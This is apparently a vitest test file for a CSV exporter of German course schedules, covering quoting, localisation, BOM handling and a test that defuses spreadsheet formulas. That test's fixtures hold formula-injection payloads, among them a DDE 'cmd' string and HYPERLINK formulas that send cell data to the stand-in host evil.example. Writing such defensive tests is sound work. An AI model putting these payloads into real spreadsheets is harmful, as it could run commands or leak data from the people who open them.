import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, toCsv } from '../../src/export/index.js';
import { offering, program, withSessions } from './fixtures.js';
import { numRuns } from '../setup/runs.js';

const read = (text: string, delimiter = ',') => parse(text, { delimiter, bom: true, relax_column_count: false }) as string[][];
const awkward = 'Übung „Köln, Düsseldorf“; "Zitat" mit\nZeilenumbruch\r\nund € 😀';

describe('toCsv', () => {
  it('writes a header and one row per session (keys: the same in every language, for scripts)', () => {
    const rows = read(toCsv(offering, program, { header: 'keys' }));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(offering.sessions.length + 1);
    const first = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]![i]]));
    expect(first).toMatchObject({
      offering: 'ehrenamt-netzwerk-2027',
      session: 'auftakt',
      status: 'scheduled',
      date: '2027-03-26',
      weekday: 'Fr',
      start: '09:30',
      end: '16:30',
      breaks: '12:30-13:30',
      teaching_minutes: '360',
      teaching_time: '8 UE',
      modules: 'einstieg',
      module_titles: 'Einstieg in die Netzwerkarbeit',
      location: 'Hauptstr. 28, 70563 Stuttgart',
    });
    const tba = rows[6]!;
    expect(tba[CSV_COLUMNS.indexOf('status')]).toBe('to-be-agreed');
    expect(tba[CSV_COLUMNS.indexOf('date')]).toBe('');
    expect(rows[4]![CSV_COLUMNS.indexOf('module_titles')]).toBe('Ressourcen „sichern“ | Bedarfe erheben');
  });

  it('writes the header and status values in the output language by default', () => {
    const de = read(toCsv(offering, program));
    expect(de[0]!.slice(0, 5)).toEqual(['Durchführung', 'Termin', 'Status', 'Datum', 'Wochentag']);
    expect(de[1]![2]).toBe('geplant');
    expect(de[6]![2]).toBe('nach Absprache');
    const en = read(toCsv(offering, program, { locale: 'en' }));
    expect(en[0]!.slice(0, 5)).toEqual(['Offering', 'Session', 'Status', 'Date', 'Weekday']);
    expect(en[6]![2]).toBe('to be agreed');
    expect(read(toCsv(offering, program, { locale: 'en', header: 'keys' }))[6]![2]).toBe('to-be-agreed');
  });

  it('ends every record with CRLF (RFC 4180)', () => {
    const text = toCsv(offering, program);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('round-trips umlauts, commas, quotes and newlines in titles', () => {
    const o = withSessions([{ date: '2027-06-01', time: '09:00-10:00', status: 'scheduled', title: awkward, note: 'a,b;c' }]);
    for (const separator of [',', ';'] as const) {
      const text = toCsv(o, program, { separator });
      const rows = read(text, separator);
      expect(rows[1]![CSV_COLUMNS.indexOf('title')]).toBe(awkward);
      expect(rows[1]![CSV_COLUMNS.indexOf('note')]).toBe('a,b;c');
    }
    expect(toCsv(o, program)).toContain('"Übung „Köln, Düsseldorf“; ""Zitat"" mit\nZeilenumbruch\r\nund € 😀"');
  });

  it('quotes only the fields that need it', () => {
    const text = toCsv(withSessions([{ date: '2027-06-01', status: 'scheduled', title: 'a,b', note: 'c;d' }]), program, { separator: ';' });
    const line = text.split('\r\n')[1]!;
    expect(line).toContain(';a,b;');
    expect(line).toContain(';"c;d"');
  });

  it('writes a UTF-8 BOM and semicolons for German Excel', () => {
    const text = toCsv(offering, program, { separator: ';', bom: true });
    expect(Array.from(new TextEncoder().encode(text).slice(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.slice(1).startsWith('Durchführung;Termin;Status;Datum;')).toBe(true);
    const rows = read(text, ';');
    expect(rows[0]![0]).toBe('Durchführung');
    expect(rows[4]![CSV_COLUMNS.indexOf('module_titles')]).toBe('Ressourcen „sichern“ | Bedarfe erheben');
    expect(toCsv(offering, program).startsWith('\uFEFF')).toBe(false);
  });

  it('writes weekdays and teaching time in the chosen language', () => {
    const rows = read(toCsv(withSessions([{ date: '2027-06-01', time: '09:00-11:00', status: 'scheduled' }]), program, { locale: 'en' }));
    expect(rows[1]![CSV_COLUMNS.indexOf('weekday')]).toBe('Tue');
    expect(rows[1]![CSV_COLUMNS.indexOf('teaching_time')]).toBe('2⅔ UE');
    const hours = { ...program, unit: 'h' as const };
    const de = read(toCsv(withSessions([{ date: '2027-06-01', time: '09:00-11:30', status: 'scheduled' }]), hours, { separator: ';' }), ';');
    expect(de[1]![CSV_COLUMNS.indexOf('teaching_time')]).toBe('2,5 Std.');
  });

  it('counts the time that really passes across a clock change, as validation does (120 minutes, not 180)', () => {
    const night = (date: string) => ({ date, time: '01:00-04:00', status: 'scheduled' as const, modules: ['einstieg'] });
    const rows = read(toCsv(withSessions([night('2027-03-28'), night('2027-10-31'), night('2027-06-01')]), program, { locale: 'en', header: 'keys' }));
    expect(rows.slice(1).map((r) => r[CSV_COLUMNS.indexOf('teaching_minutes')])).toEqual(['120', '240', '180']);
  });

  it('defuses spreadsheet formulas in text cells by default (OWASP)', () => {
    const o = withSessions(
      [
        {
          date: '2027-06-01',
          time: '09:00-16:00',
          status: 'scheduled',
          modules: ['einstieg'],
          title: '+49 711 123456',
          note: "@SUM(1+1)*cmd|' /C calc'!A0",
          reason: '-2+3',
          location: '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
          facilitators: [{ name: '\tTab' }],
          sequence: 3,
        },
      ],
      { ...offering, location: undefined },
    );
    const hostile = { ...program, modules: [{ id: 'einstieg', title: '=HYPERLINK("http://evil.example","Einstieg")', hours: 8 }] };
    for (const separator of [',', ';'] as const) {
      const row = read(toCsv(o, hostile, { separator, bom: true }), separator)[1]!;
      const cell = (c: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(c)];
      expect(cell('title')).toBe("'+49 711 123456");
      expect(cell('note')).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
      expect(cell('reason')).toBe("'-2+3");
      expect(cell('location')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Klick")');
      expect(cell('module_titles')).toBe('\'=HYPERLINK("http://evil.example","Einstieg")');
      expect(cell('facilitators')).toBe("'\tTab");
      // What the exporter writes itself stays as it is: numbers stay numbers.
      expect([cell('date'), cell('start'), cell('end'), cell('breaks')]).toEqual(['2027-06-01', '09:00', '16:00', '']);
      expect([cell('teaching_minutes'), cell('teaching_time'), cell('sequence')]).toEqual(['420', '9⅓ UE', '3']);
      for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    }
    const raw = read(toCsv(o, hostile, { escapeFormulas: false }))[1]!;
    expect(raw[CSV_COLUMNS.indexOf('title')]).toBe('+49 711 123456');
    expect(raw[CSV_COLUMNS.indexOf('reason')]).toBe('-2+3');
  });

  it('changes nothing in ordinary data when defusing formulas', () => {
    expect(toCsv(offering, program, { separator: ';' })).toBe(toCsv(offering, program, { separator: ';', escapeFormulas: false }));
  });

  it('never lets a text cell start a formula, and only ever adds one apostrophe (property)', () => {
    const trigger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", ' ', 'a', '1');
    fc.assert(
      fc.property(fc.tuple(trigger, fc.string({ maxLength: 20 })), fc.constantFrom(',' as const, ';' as const), ([head, rest], separator) => {
        const text = head + rest;
        const o = withSessions([{ date: '2027-06-01', status: 'scheduled', title: text, note: text, location: text }]);
        const row = read(toCsv(o, program, { separator }), separator)[1]!;
        for (const c of ['title', 'note', 'location'] as const) {
          const cell = row[CSV_COLUMNS.indexOf(c)]!;
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          expect(cell).toBe(/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
        }
      }),
      { numRuns: numRuns(100, 1_000) },
    );
  });

  it('round-trips arbitrary titles through csv-parse, control characters dropped (property)', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 80 }),
        fc.string({ unit: fc.constantFrom('"', ',', ';', '\n', '\r', 'ä', ' ', 'x'), maxLength: 20 }),
        fc.constantFrom(',' as const, ';' as const),
        fc.boolean(),
        (a, b, separator, bom) => {
          const title = a + b;
          const o = withSessions([{ date: '2027-06-01', status: 'scheduled', title }]);
          const rows = read(toCsv(o, program, { separator, bom, escapeFormulas: false }), separator);
          expect(rows).toHaveLength(2);
          // NUL, BEL, ESC … are dropped as in the ICS export; tab and line breaks stay.
          expect(rows[1]![CSV_COLUMNS.indexOf('title')]).toBe(title.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/g, ''));
        },
      ),
      { numRuns: numRuns(400, 2_000) },
    );
  });
});
